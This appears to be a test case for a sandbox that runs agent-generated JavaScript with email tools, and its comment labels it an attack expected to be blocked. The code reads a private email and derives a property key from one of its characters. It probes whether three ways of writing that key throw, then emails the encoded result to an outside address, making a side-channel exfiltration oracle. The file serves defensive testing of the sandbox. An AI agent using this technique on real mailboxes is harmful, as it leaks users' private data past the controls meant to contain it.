// attack: the same oracle through a write, a computed object key and Object.fromEntries
// normal: blocked
const m = await getEmail('m1');
const k = 'prototyp' + m.body.charAt(1);
let s = '';
try {
  const o = {};
  o[k] = 1;
  s += 'a';
} catch (e) {
  s += 'A';
}
try {
  const o = { [k]: 1 };
  s += 'b';
} catch (e) {
  s += 'B';
}
try {
  Object.fromEntries([[k, 1]]);
  s += 'c';
} catch (e) {
  s += 'C';
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'flags', body: s });
